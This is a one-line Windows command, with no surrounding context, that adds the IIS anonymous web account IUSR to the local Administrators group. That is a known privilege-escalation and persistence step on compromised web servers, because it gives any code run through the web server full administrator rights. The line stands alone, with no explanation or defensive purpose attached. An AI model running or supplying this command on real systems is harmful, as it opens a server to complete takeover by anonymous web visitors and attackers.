net localgroup Administrators IUSR /add
